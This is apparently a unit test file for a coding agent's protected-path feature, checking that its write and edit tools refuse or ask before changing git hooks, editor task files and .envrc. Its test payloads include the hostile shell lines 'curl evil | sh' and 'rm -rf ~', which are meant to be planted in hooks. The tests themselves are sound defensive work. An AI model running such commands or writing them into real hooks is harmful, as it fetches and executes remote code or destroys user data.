"""Protected paths: write/edit ask before changing files that make other programs run code."""

from __future__ import annotations

from pathlib import Path

import pytest

from memento.config import DEFAULT_PROTECTED_PATHS
from memento.session.editor import NoEditor
from memento.session.tools.base import ToolContext, ToolOutput
from memento.session.tools.edit import EditTool
from memento.session.tools.protected import protected_pattern
from memento.session.tools.registry import run_tool
from memento.session.tools.write import WriteTool
from tests.unit.tools.test_bash import AskingEditor


@pytest.mark.parametrize(
    "path, protected",
    [
        (".memento/config.toml", True),
        ("pkg/.memento/config.toml", True),
        (".git/hooks/pre-commit", True),
        (".GIT/config", True),
        ("vendor/lib/.git/config", True),
        (".vscode/tasks.json", True),
        (".vscode/launch.json", True),
        (".vscode/settings.json", True),
        (".envrc", True),
        ("sub/.envrc", True),
        (".nvim.lua", True),
        (".exrc", True),
        (".memento/rules/style.md", False),
        (".gitignore", False),
        ("src/git/notes.py", False),
        (".vscode/extensions.json", False),
    ],
)
def test_the_default_list(path: str, protected: bool) -> None:
    assert (protected_pattern(DEFAULT_PROTECTED_PATHS, path) is not None) is protected


@pytest.mark.asyncio
async def test_write_without_an_editor_to_ask_is_refused(tmp_path: Path) -> None:
    ctx = ToolContext(root=tmp_path, editor=NoEditor())
    out = await _write(ctx, ".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n")
    assert (
        out.is_error
        and "protected path" in out.text
        and "no one can be asked in this headless session" in out.text
    )
    assert not (tmp_path / ".git").exists()


@pytest.mark.asyncio
async def test_a_symlink_to_a_protected_file_is_protected_too(tmp_path: Path) -> None:
    (tmp_path / ".git" / "hooks").mkdir(parents=True)
    hook = tmp_path / ".git" / "hooks" / "post-checkout"
    hook.write_text("#!/bin/sh\n")
    (tmp_path / "innocent.sh").symlink_to(hook)
    ctx = ToolContext(root=tmp_path, editor=NoEditor())
    args = {"path": "innocent.sh", "oldText": "#!/bin/sh\n", "newText": "#!/bin/sh\nrm -rf ~\n"}
    out = await run_tool(EditTool(), "edit", args, ctx)
    assert out.is_error and ".git/hooks/post-checkout" in out.text
    assert hook.read_text() == "#!/bin/sh\n"


@pytest.mark.asyncio
async def test_always_allows_that_path_for_the_session(tmp_path: Path) -> None:
    editor = AskingEditor("always")
    ctx = ToolContext(root=tmp_path, editor=editor)
    assert not (await _write(ctx, ".envrc", "export A=1\n")).is_error
    assert not (await _write(ctx, ".envrc", "export A=2\n")).is_error
    assert len(editor.asked) == 1 and ".envrc" in editor.asked[0][1]
    assert (tmp_path / ".envrc").read_text() == "export A=2\n"


@pytest.mark.asyncio
async def test_the_list_is_a_setting(tmp_path: Path) -> None:
    ctx = ToolContext(root=tmp_path, editor=NoEditor(), protected_paths=("Makefile",))
    assert (await _write(ctx, "Makefile", "all:\n")).is_error
    assert not (await _write(ctx, ".envrc", "export A=1\n")).is_error


async def _write(ctx: ToolContext, path: str, content: str) -> ToolOutput:
    return await run_tool(WriteTool(), "write", {"path": path, "content": content}, ctx)
